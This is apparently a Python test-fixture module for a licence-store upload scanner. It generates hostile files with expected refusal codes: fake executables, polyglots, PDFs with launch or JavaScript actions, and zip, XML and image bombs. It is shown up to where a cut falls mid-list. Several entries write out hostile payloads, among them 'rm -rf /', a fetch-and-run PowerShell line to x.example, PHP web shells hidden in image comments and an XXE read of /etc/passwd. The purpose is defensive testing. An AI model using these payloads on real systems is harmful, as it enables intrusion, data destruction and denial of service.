"""Hostile uploads, as generators: nothing harmful is kept here, each is made when asked for.

Each row: what it is, the kind it is uploaded as, the maker, the code of the refusal.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import pikepdf
from PIL import Image as Pictures

from tests.licence_store.uploads import makers as m

SCRIPT_TEXT = b"This program cannot be run in DOS mode.\r\r\n$"
EXE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + SCRIPT_TEXT + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(64)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
JAR = m.zip_of("META-INF/MANIFEST.MF", "Main.class", content=b"\xca\xfe\xba\xbe")
PLAIN_ZIP = m.zip_of("a.txt", "b.txt")


class Hostile(NamedTuple):
    title: str
    make: Callable[[], bytes]
    code: str
    kind: str = "licence_scan"


def _ooxml(macro: bool) -> bytes:
    names = ["[Content_Types].xml", "_rels/.rels", "word/document.xml"] + (["word/vbaProject.bin"] if macro else [])
    return m.zip_of(*names)


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"), io.BytesIO())
    return out.getvalue()


def _iso() -> bytes:
    return bytes(32769) + b"CD001" + bytes(2048)


def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    return m.text_pdf(1, change, **options)


def _action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    """The document does this when opened."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **more)
        )

    return change


def _annotation(subtype: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        one = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=pikepdf.Array([0, 0, 99, 99]), **more
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(one)])

    return change


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(script)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage))


def _field_script(pdf: pikepdf.Pdf) -> None:
    field = pikepdf.Dictionary(
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("a"),
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript)),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.make_indirect(field)]))


def _opens(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """The document does just this when opened, whatever type it states."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(**entries))

    return change


def _layer(configuration: dict[str, Any], member: str = "") -> Callable[[pikepdf.Pdf], None]:
    """Something on a layer that is off, or that is shown where the layer is off."""

    def change(pdf: pikepdf.Pdf) -> None:
        layer = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("layer")))
        stated = {key: pikepdf.Array([layer]) if value == "layer" else value for key, value in configuration.items()}
        pdf.Root.OCProperties = pikepdf.Dictionary(OCGs=pikepdf.Array([layer]), D=pikepdf.Dictionary(**stated))
        if member:
            shown = pikepdf.Dictionary(Type=pikepdf.Name.OCMD, OCGs=layer, P=pikepdf.Name(member))
            pdf.Root.Member = pdf.make_indirect(shown)

    return change


def _beside_ours(pdf: pikepdf.Pdf) -> None:
    """A program that the list of embedded files does not name, beside a data message that it does."""
    pdf.attachments["licence.json"] = pikepdf.AttachedFileSpec(pdf, b"{}")
    program = pikepdf.Dictionary(F=pdf.make_stream(b"MZ\x90", Type=pikepdf.Name.EmbeddedFile))
    entry = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=program)
    pdf.pages[0].obj.AF = pikepdf.Array([pdf.make_indirect(entry)])


def _under_our_name(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["licence.json"] = pikepdf.AttachedFileSpec(pdf, b"{}", filename="licence.exe")


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _unreferenced_script(pdf: pikepdf.Pdf) -> None:
    """In no tree, but in the file: another reader's repair may find it."""
    pdf.Root.Hidden = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))


def _nested_script(pdf: pikepdf.Pdf) -> None:
    inner: Any = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    for _ in range(12):
        inner = pikepdf.Dictionary(Deeper=inner)
    pdf.Root.Extra = inner


def _hex_script() -> bytes:
    return m.raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4aS(1)>>>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )  # fmt: skip


def _attach(name: str, content: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = content

    return change


def _portfolio(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["licence.json"] = b"{}"
    pdf.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)


def _attached_to_page(pdf: pikepdf.Pdf) -> None:
    file = pdf.make_stream(b"MZ", Type=pikepdf.Name.EmbeddedFile)
    specification = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a"), EF=pikepdf.Dictionary(F=file))
    _annotation("/FileAttachment", FS=specification)(pdf)


def _outside_stream(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("http://x.example/")))
    pdf.pages[0].obj.Contents = stream


def _reference_object(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(
        b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=pikepdf.Array([0, 0, 9, 9]),
        Ref=pikepdf.Dictionary(F=pikepdf.String("other.pdf"), Page=0),
    )  # fmt: skip
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))


def _postscript(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"systemdict", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name("/PS"))
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))


def _encrypted(user: str, **rights: bool) -> bytes:
    return m.text_pdf(encryption=pikepdf.Encryption(owner="o", user=user, allow=pikepdf.Permissions(**rights)))


def _raw_stream(filters: str, packed: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"")
        stream.write(packed, filter=[pikepdf.Name(one) for one in filters.split()])
        pdf.Root.Extra = stream

    return change


def _zeros(mib: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(mib)) + packer.flush()


def _image_bomb(width: int, height: int) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        image = pdf.make_stream(
            b"\0", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=width, Height=height,
            ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
        )  # fmt: skip
        page = pdf.pages[0].obj
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=image))
        page.Contents = pdf.make_stream(b"q 500 0 0 500 0 0 cm /A Do Q")

    return change


def _huge_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.MediaBox = pikepdf.Array([0, 0, 9_000_000, 9_000_000])


def _no_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def _deep_pdf() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )


def _png_header(width: int, height: int) -> bytes:
    head = m.chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + m.chunk(b"IDAT", _zeros(1)) + m.chunk(b"IEND", b"")


def _bomb_chunk(kind: bytes) -> bytes:
    packed = _zeros(64)
    if kind == b"iTXt":
        return m.chunk(kind, b"Comment\0\x01\0\0\0" + packed)
    return m.chunk(kind, b"Comment\0\0" + packed)


def _jpeg_sized(width: int, height: int) -> bytes:
    """A JPEG whose head says it is as large as that."""
    data = bytearray(m.jpeg())
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _jpeg_many_scans() -> bytes:
    data = m.jpeg(640, 640, progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 500 + data[-2:]


def _animated_png() -> bytes:
    return m.saved(m.page(), "PNG", save_all=True, append_images=[m.page().rotate(180)])


def _gif(*frames: Pictures.Image) -> bytes:
    return m.saved(frames[0], "GIF", save_all=True, append_images=frames[1:])


def _mp4(brand: bytes = b"isom") -> bytes:
    return (
        struct.pack(">I", 24)
        + b"ftyp"
        + brand
        + bytes(4)
        + brand
        + b"mp41"
        + struct.pack(">I", 16)
        + b"moov"
        + bytes(8)
    )


def _heic(*boxes: tuple[bytes, bytes], brand: bytes = b"heic", tail: bytes = b"") -> bytes:
    first = struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1" + brand
    return first + b"".join(struct.pack(">I", len(body) + 8) + kind + body for kind, body in boxes) + tail


def _tiff_sized(width: int, height: int) -> bytes:
    """One directory that promises a picture of that size."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8),
               (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 100)]  # fmt: skip
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *one) for one in entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8) + body + bytes(200)


def _zip_bomb(mib: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        for name, content in m.ofd_entries().items():
            package.writestr(zipfile.ZipInfo(name), content)
        with package.open("Doc_0/Res/zeros.bin", "w") as entry:
            for _ in range(mib):
                entry.write(bytes(1 << 20))
    return out.getvalue()


def _zip_many(count: int) -> bytes:
    return m.zipped({**m.ofd_entries(), **{f"Doc_0/Res/{n}.bin": b"" for n in range(count)}})


def _zip_flagged() -> bytes:
    """Its entries say they are encrypted."""
    data = bytearray(m.ofd())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _overlapping_zip() -> bytes:
    """Every line of the directory names the same data: small outside, endless inside."""
    data = m.zipped({**m.ofd_entries(), **{f"Doc_0/Res/{n}.bin": b"x" * 100 for n in range(5)}})
    place = data.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", data, place + 12)
    directory = data[offset : offset + size]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    again = last.replace(b"4.bin", b"5.bin")
    count = struct.unpack_from("<H", data, place + 10)[0] + 1
    end = data[place : place + 8] + struct.pack("<HHII", count, count, size + len(again), offset) + bytes(2)
    return data[:offset] + directory + again + end


def _xml_bomb() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{"&a" + str(n - 1) + ";" if n else "x"}{"x" * 10}">' for n in range(20))
    text = f'<?xml version="1.0"?><!DOCTYPE r [{entities}]><ofd:OFD xmlns:ofd="{m.NAMESPACE}">&a19;</ofd:OFD>'
    return m.zipped({**m.ofd_entries(), "OFD.xml": text.encode()})


def _outside_entity() -> bytes:
    text = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><ofd:OFD xmlns:ofd="{m.NAMESPACE}">&a;</ofd:OFD>'
    return m.zipped({**m.ofd_entries(), "OFD.xml": text.encode()})


def _ofd_page_extra(extra: str) -> Callable[[], bytes]:
    return lambda: m.ofd(page_extra=extra)


_ACTION = '<ofd:Actions><ofd:Action Event="PO"><ofd:{0}/></ofd:Action></ofd:Actions>'
_ATTACHED = "<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>"


def _ofd_attachment(file: str, content: bytes) -> Callable[[], bytes]:
    listing = (
        f'<ofd:Attachments xmlns:ofd="{m.NAMESPACE}"><ofd:Attachment ID="1" Name="a"><ofd:FileLoc>{file}</ofd:FileLoc>'
        "</ofd:Attachment></ofd:Attachments>"
    )
    return lambda: m.ofd(
        {"Doc_0/Attachs/Attachments.xml": listing.encode(), f"Doc_0/Attachs/{file}": content}, extra=_ATTACHED
    )


def _resource(place: str) -> Callable[[], bytes]:
    return lambda: m.ofd(extra=f"<ofd:PublicRes>{place}</ofd:PublicRes>")


def _utf16(text: str) -> bytes:
    return text.encode("utf-16")


HOSTILE: tuple[Hostile, ...] = (
    # Programs
    Hostile("nothing at all", lambda: b"", "upload.empty"),
    Hostile("Windows program", lambda: EXE, "upload.executable"),
    Hostile("two octets of a program", lambda: b"MZ", "upload.executable"),
    Hostile("Linux program", lambda: ELF, "upload.executable"),
    Hostile("macOS program, 64 bits", lambda: b"\xcf\xfa\xed\xfe" + bytes(64), "upload.executable"),
    Hostile("macOS program, other order", lambda: b"\xfe\xed\xfa\xce" + bytes(64), "upload.executable"),
    Hostile("Java class", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64), "upload.executable"),
    Hostile("Android code", lambda: b"dex\n035\0" + bytes(64), "upload.executable"),
    Hostile("WebAssembly", lambda: b"\0asm\1\0\0\0", "upload.executable"),
    Hostile("Windows shortcut", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(64), "upload.executable"),
    Hostile("static library", lambda: b"!<arch>\n" + bytes(64), "upload.executable"),
    Hostile("compiled help", lambda: b"ITSF\3\0\0\0" + bytes(64), "upload.executable"),
    Hostile("browser extension", lambda: b"Cr24\3\0\0\0" + bytes(64), "upload.executable"),
    Hostile("Flash film", lambda: b"CWS\x0a" + bytes(64), "upload.executable"),
    Hostile("Java archive", lambda: JAR, "upload.executable"),
    Hostile("Android application", lambda: m.zip_of("AndroidManifest.xml", "classes.dex"), "upload.executable"),
    # Scripts
    Hostile("shell script", lambda: b"#!/bin/sh\nrm -rf /\n", "upload.script"),
    Hostile("Python script", lambda: b"import os\nos.system('id')\n", "upload.script"),
    Hostile("batch file", lambda: b"@echo off\r\ndel *.*\r\n", "upload.script"),
    Hostile("PowerShell", lambda: b"Invoke-WebRequest http://x.example | iex\n", "upload.script"),
    Hostile("PowerShell in UTF-16", lambda: _utf16("powershell -enc AAAA"), "upload.script"),
    Hostile("VBScript", lambda: b'Set s = CreateObject("WScript.Shell")\r\n', "upload.script"),
    Hostile("JavaScript", lambda: b"(function(){ eval('1') })()", "upload.script"),
    Hostile("PHP page", lambda: b"<?php system($_GET['c']); ?>", "upload.script"),
    Hostile("ASP page", lambda: b'<%@ Language="VBScript" %><% Execute(1) %>', "upload.script"),
    Hostile("internet shortcut", lambda: b"[InternetShortcut]\r\nURL=file://x\r\n", "upload.script"),
    Hostile("registry file", lambda: _utf16("Windows Registry Editor Version 5.00\r\n"), "upload.script"),
    Hostile("PostScript", lambda: b"%!PS-Adobe-3.0\n(x) run\n", "upload.script"),
    Hostile("PostScript in a DOS wrapper", lambda: b"\xc5\xd0\xd3\xc6" + bytes(64), "upload.script"),
    # Office, archives, markup
    Hostile("Word with macros", lambda: _ooxml(True), "upload.office"),
    Hostile("Word without macros", lambda: _ooxml(False), "upload.office"),
    Hostile("old Word, Excel, installer (OLE)", lambda: OLE, "upload.office"),
    Hostile("OpenDocument", lambda: m.zip_of("mimetype", "content.xml", "META-INF/manifest.xml"), "upload.office"),
    Hostile("rich text", lambda: b"{\\rtf1{\\object}}", "upload.office"),
    Hostile("ZIP", lambda: PLAIN_ZIP, "upload.archive"),
    Hostile("ZIP of a ZIP", lambda: m.zip_of("a.zip", content=PLAIN_ZIP), "upload.archive"),
    Hostile("empty ZIP", lambda: b"PK\x05\x06" + bytes(18), "upload.archive"),
    Hostile("RAR", lambda: b"Rar!\x1a\x07\x01\0" + bytes(64), "upload.archive"),
    Hostile("7-Zip", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64), "upload.archive"),
    Hostile("gzip", lambda: b"\x1f\x8b\x08\0" + bytes(64), "upload.archive"),
    Hostile("bzip2", lambda: b"BZh9" + bytes(64), "upload.archive"),
    Hostile("xz", lambda: b"\xfd7zXZ\0" + bytes(64), "upload.archive"),
    Hostile("Zstandard", lambda: b"\x28\xb5\x2f\xfd" + bytes(64), "upload.archive"),
    Hostile("cabinet", lambda: b"MSCF\0\0\0\0" + bytes(64), "upload.archive"),
    Hostile("tar", _tar, "upload.archive"),
    Hostile("disk image", _iso, "upload.archive"),
    Hostile("HTML", lambda: b"<!DOCTYPE html><html><script>alert(1)</script>", "upload.markup"),
    Hostile("HTML behind blanks", lambda: b"\n\n   <html></html>", "upload.markup"),
    Hostile("HTML in UTF-16", lambda: _utf16("<html></html>"), "upload.markup"),
    Hostile("SVG with a script", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "upload.markup"),
    Hostile("SVG behind an XML declaration", lambda: b'\xef\xbb\xbf<?xml version="1.0"?><svg/>', "upload.markup"),
    Hostile("XML with entities", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "upload.markup"),
    # What we cannot use
    Hostile("GIF", lambda: _gif(m.page()), "upload.unsupported"),
    Hostile("BMP", lambda: m.saved(m.page(), "BMP"), "upload.unsupported"),
    Hostile("WebP", lambda: m.saved(m.page(), "WEBP"), "upload.unsupported"),
    Hostile("icon", lambda: b"\0\0\x01\0\x01\0" + bytes(64), "upload.unsupported"),
    Hostile("Photoshop", lambda: b"8BPS\0\1" + bytes(64), "upload.unsupported"),
    Hostile("JPEG 2000", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(64), "upload.unsupported"),
    Hostile("Windows metafile", lambda: b"\xd7\xcd\xc6\x9a" + bytes(64), "upload.unsupported"),
    Hostile("BigTIFF", lambda: b"II+\0\x08\0\0\0" + bytes(64), "upload.unsupported"),
    Hostile("AVIF", lambda: _heic(brand=b"avif"), "upload.unsupported"),
    Hostile("sound", lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(64), "upload.unsupported"),
    Hostile("text", lambda: "我的说明".encode(), "upload.unsupported"),
    Hostile("noise", lambda: bytes((n * 97 + 13) % 251 for n in range(5000)), "upload.unsupported"),
    Hostile("zeros", lambda: bytes(5000), "upload.unsupported"),
    Hostile("HEIC at the window, which takes none", lambda: _heic((b"meta", b""), (b"mdat", b"")), "upload.unsupported", "window_scan"),
    Hostile("film", _mp4, "upload.animated"),
    Hostile("QuickTime film", lambda: _mp4(b"qt  "), "upload.animated"),
    Hostile("PNG that moves", _animated_png, "upload.animated"),
    # Two files in one
    Hostile("JPEG and ZIP", lambda: m.jpeg() + PLAIN_ZIP, "upload.polyglot"),
    Hostile("JPEG and JAR", lambda: m.jpeg() + JAR, "upload.polyglot"),
    Hostile("JPEG with a ZIP in its comment", lambda: m.jpeg_with(m.segment(0xFE, PLAIN_ZIP)), "upload.polyglot", "self_made"),
    Hostile("JPEG and RAR", lambda: m.jpeg() + b"Rar!\x1a\x07\0" + bytes(64), "upload.polyglot"),
    Hostile("JPEG and 7-Zip", lambda: m.jpeg() + b"7z\xbc\xaf\x27\x1c\0\4", "upload.polyglot"),
    Hostile("JPEG and program", lambda: m.jpeg() + EXE, "upload.polyglot"),
    Hostile("JPEG with PHP in its comment", lambda: m.jpeg_with(m.segment(0xFE, b"<?php eval($_POST[1]) ?>")), "upload.polyglot"),
    Hostile("JPEG with HTML in its comment", lambda: m.jpeg_with(m.segment(0xFE, b"<script >alert(1)</script>")), "upload.polyglot"),
    Hostile("JPEG and PDF", lambda: m.jpeg() + m.text_pdf(), "upload.polyglot"),
    Hostile("PNG and ZIP", lambda: m.png() + PLAIN_ZIP, "upload.polyglot"),
    Hostile("PNG with a program in a chunk", lambda: m.png_with(m.chunk(b"prVt", EXE)), "upload.polyglot"),
    Hostile("PNG with PHP in its text", lambda: m.png_with(m.chunk(b"tEXt", b"Comment\0<?php phpinfo(); ?>")), "upload.polyglot"),
    Hostile("GIF and JAR", lambda: _gif(m.page(100, 100)) + JAR, "upload.polyglot"),
    Hostile("BMP and ZIP", lambda: m.saved(m.page(100, 100), "BMP") + PLAIN_ZIP, "upload.polyglot"),
    Hostile("TIFF and ZIP", lambda: m.tiff() + PLAIN_ZIP, "upload.polyglot"),
    Hostile("TIFF and DICOM", lambda: m.tiff()[:8] + bytes(120) + b"DICM" + bytes(64), "upload.polyglot"),
    Hostile("HEIC and ZIP", lambda: _heic((b"meta", b""), (b"mdat", b""), tail=PLAIN_ZIP), "upload.polyglot"),
    Hostile("PDF and ZIP", lambda: m.text_pdf() + PLAIN_ZIP, "upload.polyglot"),
    Hostile("PDF with a ZIP's end in a comment", lambda: m.text_pdf().replace(b"%%EOF", b"%" + PLAIN_ZIP + b"\n%%EOF"), "upload.polyglot"),
    Hostile("PDF and disk image", lambda: m.text_pdf()[:-6].ljust(32769, b" ") + b"CD001\n%%EOF\n", "upload.polyglot"),
    Hostile("PDF that is HTML as well", lambda: m.text_pdf().replace(b"\n", b"\n%<html><script>1</script>\n", 1), "upload.polyglot"),
    Hostile("PDF with a program inside", lambda: m.text_pdf().replace(b"%%EOF", b"%" + SCRIPT_TEXT.replace(b"\r", b" ") + b"\n%%EOF"), "upload.polyglot"),
    Hostile("PDF behind something else", lambda: b"GARBAGE\n" + m.text_pdf(), "upload.polyglot"),
    Hostile("ZIP behind something else", lambda: b"GARBAGE\n" + PLAIN_ZIP, "upload.polyglot"),
    Hostile("program that ends as ZIP", lambda: EXE + PLAIN_ZIP, "upload.polyglot"),
    # Something behind the end
    Hostile("JPEG with data behind its end", lambda: m.jpeg() + b"secret" * 100, "upload.trailing_data"),
    Hostile("PNG with data behind its end", lambda: m.png() + b"secret" * 100, "upload.trailing_data"),
    Hostile("HEIC with data behind its end", lambda: _heic((b"meta", b""), (b"mdat", b""), tail=b"secretsecret"), "upload.trailing_data"),
    Hostile("HEIC with a box of its own", lambda: _heic((b"meta", b""), (b"evil", b"x" * 99), (b"mdat", b"")), "upload.trailing_data"),
    Hostile("PDF with data behind its end", lambda: m.text_pdf() + b"secret" * 100, "upload.trailing_data"),
    Hostile("OFD with data behind its end", lambda: m.ofd() + b"secret", "upload.trailing_data"),
    Hostile("OFD with data before it", lambda: _gap(), "upload.trailing_data"),
    Hostile("OFD with a comment", lambda: m.zipped(m.ofd_entries(), comment=b"secret"), "upload.trailing_data"),
    # Locked
    Hostile("PDF with a password", lambda: _encrypted("u"), "upload.encrypted"),
    Hostile("PDF that opens but forbids", lambda: _encrypted("", print_highres=False), "upload.encrypted"),
    Hostile("OFD with encrypted entries", _zip_flagged, "upload.encrypted"),
    Hostile("OFD with an encryption list", lambda: m.ofd({"Encryptions.xml": b"<a/>"}), "upload.encrypted"),
    # PDFs that act
    Hostile("PDF: JavaScript when opened", lambda: _pdf(_action("/JavaScript", JS=pikepdf.String("app.alert(1)"))), "upload.active_content"),
    Hostile("PDF: JavaScript, name written in hex", _hex_script, "upload.active_content"),
    Hostile("PDF: JavaScript in an object stream", lambda: _pdf(_action("/JavaScript"), object_stream_mode=pikepdf.ObjectStreamMode.generate), "upload.active_content"),
    Hostile("PDF: JavaScript by name", lambda: _pdf(_names_javascript), "upload.active_content"),
    Hostile("PDF: JavaScript in a field", lambda: _pdf(_field_script), "upload.active_content"),
    Hostile("PDF: JavaScript in no tree", lambda: _pdf(_unreferenced_script), "upload.active_content"),
    Hostile("PDF: a launch twelve levels deep", lambda: _pdf(_nested_script), "upload.active_content"),
    Hostile("PDF: launches a program", lambda: _pdf(_action("/Launch", F=pikepdf.String("cmd.exe"))), "upload.active_content"),
    Hostile("PDF: sends its form", lambda: _pdf(_action("/SubmitForm", F=pikepdf.String("http://x.example"))), "upload.active_content"),
    Hostile("PDF: imports data", lambda: _pdf(_action("/ImportData", F=pikepdf.String("a.fdf"))), "upload.active_content"),
    Hostile("PDF: opens another file", lambda: _pdf(_action("/GoToR", F=pikepdf.String("\\\\x\\a.pdf"))), "upload.active_content"),
    Hostile("PDF: opens an embedded file", lambda: _pdf(_action("/GoToE")), "upload.active_content"),
    Hostile("PDF: hides fields", lambda: _pdf(_action("/Hide", T=pikepdf.String("a"))), "upload.active_content"),
    Hostile("PDF: page action", lambda: _pdf(_page_action), "upload.active_content"),
    Hostile(
        "PDF: action of a type that is none",
        lambda: _pdf(_opens(Type=pikepdf.Name.Foo, S=pikepdf.Name.Launch, F=pikepdf.String("a.exe"))),
        "upload.active_content",
    ),
    Hostile(
        "PDF: action that calls itself an element of the structure",
        lambda: _pdf(_opens(Type=pikepdf.Name.StructElem, S=pikepdf.Name.Launch, F=pikepdf.String("a.exe"))),
        "upload.active_content",
    ),
    Hostile(
        "PDF: opens an address by itself",
        lambda: _pdf(_opens(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.test/"))),
        "upload.active_content",
    ),
    Hostile(
        "PDF: prints by itself",
        lambda: _pdf(_opens(S=pikepdf.Name.Named, N=pikepdf.Name.Print)),
        "upload.active_content",
    ),
    Hostile("PDF: a layer that is off", lambda: _pdf(_layer({"OFF": "layer"})), "upload.active_content"),
    Hostile("PDF: a layer for print only", lambda: _pdf(_layer({"AS": "layer"})), "upload.active_content"),
    Hostile("PDF: shown where a layer is off", lambda: _pdf(_layer({}, "/AllOff")), "upload.active_content"),
    Hostile("PDF: a program beside a data message", lambda: _pdf(_beside_ours), "upload.embedded_files"),
    Hostile("PDF: a data message that is saved as a program", lambda: _pdf(_under_our_name), "upload.embedded_files"),
    Hostile("PDF: dynamic form (XFA)", lambda: _pdf(_xfa), "upload.active_content"),
    Hostile("PDF: Flash and the like", lambda: _pdf(_annotation("/RichMedia")), "upload.active_content"),
    Hostile("PDF: film", lambda: _pdf(_annotation("/Movie")), "upload.active_content"),
    Hostile("PDF: 3D", lambda: _pdf(_annotation("/3D")), "upload.active_content"),
    Hostile("PDF: program attached", lambda: _pdf(_attach("a.exe", EXE[:60])), "upload.embedded_files"),
    Hostile("PDF: document attached", lambda: _pdf(_attach("a.txt", b"text")), "upload.embedded_files"),
    Hostile("PDF: a program under the name of our data", lambda: _pdf(_attach("licence.json", EXE[:60])), "upload.embedded_files"),
    Hostile("PDF: attachment on the page", lambda: _pdf(_attached_to_page), "upload.embedded_files"),
    Hostile("PDF: portfolio", lambda: _pdf(_portfolio), "upload.embedded_files"),
    Hostile("PDF: content from elsewhere", lambda: _pdf(_outside_stream), "upload.outside_content"),
    Hostile("PDF: page of another file", lambda: _pdf(_reference_object), "upload.outside_content"),
    Hostile("PDF: PostScript", lambda: _pdf(_postscript), "upload.outside_content"),
    # OFDs that act
    Hostile("OFD: action of a page", _ofd_page_extra(_ACTION.format("Goto")), "upload.active_content"),
    Hostile("OFD: address", _ofd_page_extra('<ofd:URI URI="http://x.example"/>'), "upload.active_content"),
    Hostile("OFD: film", _ofd_page_extra('<ofd:Movie ResourceID="1"/>'), "upload.active_content"),
    Hostile("OFD: program as attachment", _ofd_attachment("a.bin", EXE[:60]), "upload.executable"),
    Hostile("OFD: text as attachment", _ofd_attachment("a.txt", b"text"), "upload.embedded_files"),
    Hostile("OFD: something else under the name of our data", _ofd_attachment("licence.json", b"\0\0"), "upload.embedded_files"),
    Hostile("OFD: program among its resources", lambda: m.ofd({"Doc_0/Res/a.png": ELF}), "upload.executable"),
    Hostile("OFD: Word file among its resources", lambda: m.ofd({"Doc_0/Res/a.dat": OLE}), "upload.embedded_files"),
    Hostile("OFD: PDF among its resources", lambda: m.ofd({"Doc_0/Res/a.dat": m.text_pdf()}), "upload.embedded_files"),
    Hostile("OFD: archive among its resources", lambda: m.ofd({"Doc_0/Res/a.dat": b"Rar!\x1a\x07\0"}), "upload.embedded_files"),
    Hostile("OFD: script among its resources", lambda: m.ofd({"Doc_0/Res/a.dat": b"#!/bin/sh\n"}), "upload.script"),
    Hostile("OFD: HTML among its resources", lambda: m.ofd({"Doc_0/Res/a.html": b"hello"}), "upload.embedded_files"),
    Hostile("OFD that is a JAR as well", lambda: m.ofd({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "upload.executable"),
    Hostile("OFD that is a Word file as well", lambda: m.ofd({"[Content_Types].xml": b"<Types/>"}), "upload.office"),
    Hostile("OFD: resource on the net", _resource("http://x.example/Res.xml"), "upload.outside_content"),
